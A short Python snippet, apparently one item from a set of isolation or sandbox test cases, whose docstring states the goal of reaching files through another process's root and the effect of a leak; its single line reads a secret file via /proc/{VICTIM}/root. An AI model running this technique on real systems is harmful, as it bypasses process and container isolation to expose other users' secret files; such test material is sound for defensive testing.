"""
goal: reach files through the root of another process
effect: leak
"""

print(open(f"/proc/{VICTIM}/root{SECRET_FILE}").read())
